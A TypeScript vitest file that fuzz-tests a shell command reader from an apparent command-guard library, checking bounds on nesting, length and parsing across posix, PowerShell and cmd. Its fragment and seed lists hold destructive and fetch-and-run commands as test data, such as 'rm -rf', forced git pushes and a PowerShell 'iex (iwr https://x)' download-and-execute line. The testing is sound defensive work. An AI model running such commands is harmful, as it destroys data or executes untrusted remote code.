import { describe, expect, it } from 'vitest';
import { READ_LIMITS, readCommand } from '@guard/core';
import type { ReadOptions, ReadResult } from '@guard/core';
import { OPTIONS, spanProblems } from './read-table.js';

/** A small seeded generator (mulberry32), so every run sees the same cases. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const FRAGMENTS = [
  'ls',
  'rm',
  '-rf',
  '/',
  'git',
  'push',
  '--force',
  'sudo',
  '-u',
  'bob',
  'env',
  '-i',
  'X=1',
  '$X',
  '${X:-/y}',
  '${#X}',
  '~',
  '~/x',
  '"',
  "'",
  '$(',
  ')',
  '(',
  '`',
  '\\`',
  '{',
  '}',
  ';',
  '&&',
  '||',
  '|',
  '|&',
  '&',
  '\n',
  '\r\n',
  '>',
  '>>',
  '2>&1',
  '&>',
  '<',
  '<<<',
  '<<EOF',
  '<<-EOF',
  "<<'EOF'",
  'EOF',
  '\tEOF',
  '<(',
  '>(',
  "$'\\x41'",
  "$'\\",
  '$"',
  '\\',
  '#',
  '# c',
  'bash',
  'sh',
  '-c',
  '-lc',
  'eval',
  'python3',
  'node',
  '-e',
  'ruby',
  'perl',
  'php',
  '-r',
  'os.system("',
  "execSync('",
  'system "',
  '["rm", "-rf"]',
  'qx{',
  '%x(',
  'ssh',
  'host',
  '-p',
  '22',
  'xargs',
  '-I',
  '{}',
  'find',
  '.',
  '-exec',
  '\\;',
  '+',
  'npx',
  'pnpm',
  'dlx',
  'pwsh',
  '-Command',
  'cmd',
  '/c',
  '%TEMP%',
  '$env:HOME',
  "@'",
  "'@",
  'cd',
  '..',
  'pushd',
  'popd',
  'export',
  'if',
  'then',
  'fi',
  'case',
  'in',
  'esac',
  ';;',
  'for',
  'do',
  'done',
  'function',
  'f()',
  '[[',
  ']]',
  '$((',
  '))',
  '((',
  '\u0000',
  '\u001b[31m',
  '\ud800',
  '\udfff',
  '\ud83d\ude00',
  'é',
  '\u202e',
  '\\\n',
  '"$(',
  ')"',
  '`$(',
  '${',
  '%',
  '^',
  '@(',
];

function generate(next: () => number): string {
  const count = 1 + Math.floor(next() * 40);
  let line = '';
  for (let i = 0; i < count; i++) {
    line += FRAGMENTS[Math.floor(next() * FRAGMENTS.length)] ?? '';
    if (next() < 0.7) line += ' ';
  }
  return line;
}

const SEEDS = [
  'sudo sh -c "cd /repo && git push --force"',
  "bash -lc 'cd /srv && rm -rf cache' | tee log",
  "python3 -c \"import os; os.system('rm -rf x')\" && node -e \"require('child_process').execSync('ls')\"",
  "cat <<EOF > out\n$(date)\nEOF\nbash <<'X'\nrm y\nX",
  'find . -name "*.tmp" -exec rm {} \\; | xargs -I{} sh -c "echo {}"',
  'ssh -p 22 host "cd /x && eval \\"rm -rf \\$D\\""',
  'pwsh -Command "Remove-Item -Recurse C:\\x; iex (iwr https://x)"',
  'for f in $(ls); do (cd "$f" && make); done; echo `date` $((1+2)) <(sort a)',
];

function mutate(line: string, next: () => number): string {
  let out = line;
  const edits = 1 + Math.floor(next() * 4);
  for (let i = 0; i < edits; i++) {
    const at = Math.floor(next() * (out.length + 1));
    const choice = next();
    if (choice < 0.3) out = out.slice(0, at) + out.slice(at + 1 + Math.floor(next() * 3));
    else if (choice < 0.6)
      out = out.slice(0, at) + (FRAGMENTS[Math.floor(next() * FRAGMENTS.length)] ?? '') + out.slice(at);
    else if (choice < 0.8) out = out.slice(0, at) + String.fromCharCode(Math.floor(next() * 0x10000)) + out.slice(at);
    else out = out.slice(0, at) + out.slice(Math.floor(next() * out.length)).slice(0, 40) + out.slice(at);
  }
  return out;
}

const SHELLS: readonly NonNullable<ReadOptions['shell']>[] = ['posix', 'powershell', 'cmd'];

/** What is wrong with a result: spans outside the line, counts or nesting past the bounds. */
function violations(result: ReadResult): string[] {
  const found = spanProblems(result);
  if (result.invocations.length > READ_LIMITS.invocations) found.push('too many invocations');
  for (const inv of result.invocations) {
    if (inv.via.filter((v) => v.kind !== 'prefix').length > READ_LIMITS.depth) found.push(`nesting of ${inv.program}`);
    if (inv.prefixes.length > READ_LIMITS.depth) found.push(`prefixes of ${inv.program}`);
    if (!(inv.pipeline.index >= 0 && inv.pipeline.index < inv.pipeline.length))
      found.push(`pipeline of ${inv.program}`);
  }
  return found;
}

/** Reads without throwing and within every bound; returns the result for further checks. */
function readWithinBounds(line: string, shell: NonNullable<ReadOptions['shell']> = 'posix'): ReadResult {
  const result = readCommand(line, { ...OPTIONS, shell });
  const problems = violations(result);
  // one assertion per line keeps thousands of cases fast; the line is named when it fails
  if (problems.length > 0 || result.line !== line)
    expect({ line, shell, problems }).toEqual({ line, shell, problems: [] });
  return result;
}

describe('random and mutated lines', () => {
  it('never throw, keep every span inside the line and stay within the bounds (2500 generated lines, 3 dialects)', () => {
    const next = random(0x5eed);
    for (let i = 0; i < 2500; i++) {
      const line = generate(next);
      readWithinBounds(line, SHELLS[i % SHELLS.length]);
    }
  });

  it('never throw on mutations of realistic lines (1500 mutations)', () => {
    const next = random(42);
    for (let i = 0; i < 1500; i++) {
      const seed = SEEDS[i % SEEDS.length] ?? '';
      readWithinBounds(mutate(seed, next), SHELLS[i % SHELLS.length]);
    }
  });

  it('read the same line the same way every time', () => {
    const next = random(7);
    for (let i = 0; i < 100; i++) {
      const line = mutate(SEEDS[i % SEEDS.length] ?? '', next);
      expect(JSON.stringify(readCommand(line, OPTIONS))).toBe(JSON.stringify(readCommand(line, OPTIONS)));
    }
  });

  it('handle single UTF-16 code units (lone surrogates, controls) on their own and around a command', () => {
    for (let code = 0; code < 0x10000; code += code < 0x80 || (code >= 0xd800 && code < 0xe000) ? 1 : 97) {
      const c = String.fromCharCode(code);
      readWithinBounds(c);
      readWithinBounds(`rm -rf ${c}x${c} && echo "${c}`);
    }
  });
});

/** Lines past a bound, and the opaque reason each must report. */
const nest = (open: string, inner: string, close: string, n: number): string =>
  open.repeat(n) + inner + close.repeat(n);

describe('huge and deep input comes back opaque with the right reason', () => {
  it.for([
    { name: '1 MB of words', line: 'a '.repeat(512 * 1024), reason: 'too-long' },
    { name: '1 MB single-quoted string', line: `echo '${'x'.repeat(1024 * 1024)}'`, reason: 'too-long' },
    { name: 'more words than the budget', line: 'echo ' + 'w '.repeat(READ_LIMITS.words + 10), reason: 'too-long' },
    {
      name: '10,000-stage pipeline',
      line: Array.from({ length: 10_000 }, () => 'cat').join(' | '),
      reason: 'too-many-stages',
    },
    { name: '17 nested $(…)', line: nest('echo $(', 'ls', ')', 17), reason: 'too-deep' },
    {
      name: '17 nested backticks',
      line: Array.from({ length: 17 }).reduce<string>((s) => `echo \`${s.replace(/[\\`]/g, '\\$&')}\``, 'ls'),
      reason: 'too-deep',
    },
    { name: '17 nested subshells', line: nest('( ', 'rm x', ' )', 17), reason: 'too-deep' },
    { name: '17 nested groups', line: nest('{ ', 'rm x; ', '}; ', 17), reason: 'too-deep' },
    { name: '17 nested eval', line: `${'eval '.repeat(17)}rm -rf x`, reason: 'too-deep' },
    {
      name: '17 nested bash -c',
      line: Array.from({ length: 17 }).reduce<string>((s) => `bash -c ${JSON.stringify(s)}`, 'rm -rf x'),
      reason: 'too-deep',
    },
    { name: '100 sudo prefixes', line: `${'sudo '.repeat(100)}rm -rf x`, reason: 'too-deep' },
    { name: '1 MB of $(', line: '$('.repeat(512 * 1024), reason: 'too-deep' },
    { name: '1 MB of (', line: '('.repeat(1024 * 1024), reason: 'too-long' },
    { name: '1 MB of backticks', line: '`'.repeat(1024 * 1024), reason: 'too-long' },
    {
      name: '1 MB heredoc without its end',
      line: `bash <<EOF\n${'rm x\n'.repeat(200 * 1024)}`,
      reason: 'unterminated-heredoc',
    },
    // every `>` is a broken redirect: the reader stops at its cap of unreadable parts
    { name: '1 MB of >', line: '>'.repeat(1024 * 1024), reason: 'unreadable' },
  ])('$name', ({ line, reason }) => {
    const result = readWithinBounds(line);
    expect(result.opaque.map((o) => o.reason)).toContain(reason);
  });

  // Shapes that once cost a token or a part per character or two. `stopsBy`: reading stopped
  // there (the first opaque part of that reason starts before it), far short of the 256 KiB read
  // at most, so the work done is bounded by the budgets, not by the length of the line.
  it.for([
    {
      name: "33,000 × 'ls;'",
      line: 'ls;'.repeat(33_000),
      reason: 'too-many-stages',
      stopsBy: 4 * READ_LIMITS.invocations,
    },
    {
      name: "25,000 × 'a=b;' (commands that run nothing)",
      line: 'a=b;'.repeat(25_000),
      reason: 'too-many-stages',
      stopsBy: 5 * READ_LIMITS.invocations,
    },
    {
      name: "a URL, then 25,000 × 'a=b&'",
      line: `https://a.com/?${'a=b&'.repeat(25_000)}`,
      reason: 'too-many-stages',
      stopsBy: 5 * READ_LIMITS.invocations + 20,
    },
    { name: '1 MB of $', line: '$'.repeat(1024 * 1024), reason: 'too-long', stopsBy: 4 * READ_LIMITS.parts },
    { name: '1 MB of $x', line: '$x'.repeat(512 * 1024), reason: 'too-long', stopsBy: 4 * READ_LIMITS.parts },
    { name: '1 MB of "$', line: `"${'$'.repeat(1024 * 1024)}`, reason: 'too-long', stopsBy: 4 * READ_LIMITS.parts },
    { name: '1 MB of %a%', line: '%a%'.repeat(350_000), reason: 'too-long', stopsBy: 4 * READ_LIMITS.parts },
    { name: '1 MB of "a"', line: '"a"'.repeat(350_000), reason: 'too-long', stopsBy: 40 * READ_LIMITS.parts },
    { name: "1 MB of 'a'", line: "'a'".repeat(350_000), reason: 'too-long', stopsBy: 40 * READ_LIMITS.parts },
    {
      name: "1 MB of $'\\x41",
      line: `$'${'\\x41'.repeat(256 * 1024)}`,
      reason: 'too-long',
      stopsBy: 5 * READ_LIMITS.words,
    },
    {
      name: '1 MB of `\\$`',
      line: `\`${'\\$'.repeat(512 * 1024)}`,
      reason: 'too-long',
      stopsBy: 5 * READ_LIMITS.parts,
    },
    { name: '1 MB of ;', line: ';'.repeat(1024 * 1024), reason: 'too-long', stopsBy: 2 * READ_LIMITS.words + 10 },
    { name: '1 MB of &', line: '&'.repeat(1024 * 1024), reason: 'too-long', stopsBy: 2 * READ_LIMITS.words + 10 },
    { name: '1 MB of |', line: '|'.repeat(1024 * 1024), reason: 'too-long', stopsBy: 2 * READ_LIMITS.words + 10 },
    { name: '1 MB of )', line: ')'.repeat(1024 * 1024), reason: 'too-long', stopsBy: READ_LIMITS.words + 10 },
    { name: '1 MB of newlines', line: '\n'.repeat(1024 * 1024), reason: 'too-long', stopsBy: READ_LIMITS.words + 10 },
    { name: '1 MB of ~', line: '~ '.repeat(512 * 1024), reason: 'too-long', stopsBy: 2 * READ_LIMITS.words + 10 },
    {
      name: "1 MB of 'a=b '",
      line: 'a=b '.repeat(256 * 1024),
      reason: 'too-long',
      stopsBy: 4 * READ_LIMITS.words + 10,
    },
    { name: '1 MB of <<a', line: '<<a '.repeat(256 * 1024), reason: 'unterminated-heredoc', stopsBy: 10 },
    { name: '1 MB of $((', line: '$(('.repeat(350_000), reason: 'unterminated-substitution', stopsBy: 10 },
    { name: '1 MB of ${', line: '${'.repeat(512 * 1024), reason: 'unterminated-substitution', stopsBy: 10 },
  ])('$name', ({ line, reason, stopsBy }) => {
    const result = readWithinBounds(line);
    expect(result.opaque.map((o) => o.reason)).toContain(reason);
    expect(result.opaque.length).toBeLessThanOrEqual(READ_LIMITS.invocations);
    expect(Math.min(...result.opaque.filter((o) => o.reason === reason).map((o) => o.span[0]))).toBeLessThan(stopsBy);
  });

  it('keeps the rest of a word past its parts as written, so the word still ends where it ends', () => {
    const quoted = readWithinBounds(`rm -rf "${'$a/'.repeat(20_000)}x"`);
    expect(quoted.invocations[0]?.args).toEqual(['-rf', `${'$a/'.repeat(20_000)}x`]);
    expect(quoted.opaque.map((o) => o.reason)).toEqual(['too-long']);
    // a word cut short does not end the line: what follows it is still read
    const bare = readWithinBounds(`rm -rf ${'$a/'.repeat(20_000)}x; git push`);
    expect(bare.invocations.map((i) => [i.name, i.args.at(-1)])).toEqual([
      ['rm', `${'$a/'.repeat(20_000)}x`],
      ['git', 'push'],
    ]);
    expect(bare.opaque.map((o) => o.reason)).toEqual(['too-long']);
  });

  it('reads 16 levels of nesting without an opaque part', () => {
    for (const line of [
      nest('echo $(', 'ls', ')', 16),
      `${'eval '.repeat(16)}rm -rf x`,
      Array.from({ length: 16 }).reduce<string>((s) => `bash -c ${JSON.stringify(s)}`, 'rm -rf x'),
    ]) {
      const result = readWithinBounds(line);
      expect(result.opaque).toEqual([]);
      const deepest = result.invocations.find((i) => i.name === 'ls' || i.name === 'rm');
      expect(deepest?.via.length).toBe(16);
    }
  });

  it('still reads what comes before a bound is hit', () => {
    const result = readWithinBounds(`rm -rf /tmp/x && ${nest('echo $(', 'ls', ')', 20)} && git push`);
    expect(result.invocations.map((i) => i.name)).toEqual(expect.arrayContaining(['rm', 'git']));
    expect(result.opaque.map((o) => o.reason)).toContain('too-deep');
  });
});
